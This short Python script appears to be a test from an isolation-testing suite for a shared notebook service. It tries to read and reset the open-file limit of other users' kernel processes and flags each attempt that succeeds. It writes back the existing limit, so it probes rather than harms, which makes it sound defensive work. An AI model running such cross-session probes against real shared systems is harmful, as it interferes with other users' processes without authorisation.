"""Sets the limits of another session's Python.

group: neighbour
weaken: pidns uids
victim: yes
"""

from attack import *

import resource

for pid in kernels_of_others():
    try:
        limits = resource.prlimit(pid, resource.RLIMIT_NOFILE)
        resource.prlimit(pid, resource.RLIMIT_NOFILE, limits)
        flag("%d: %s" % (pid, limits))
    except OSError as e:
        print(pid, e)
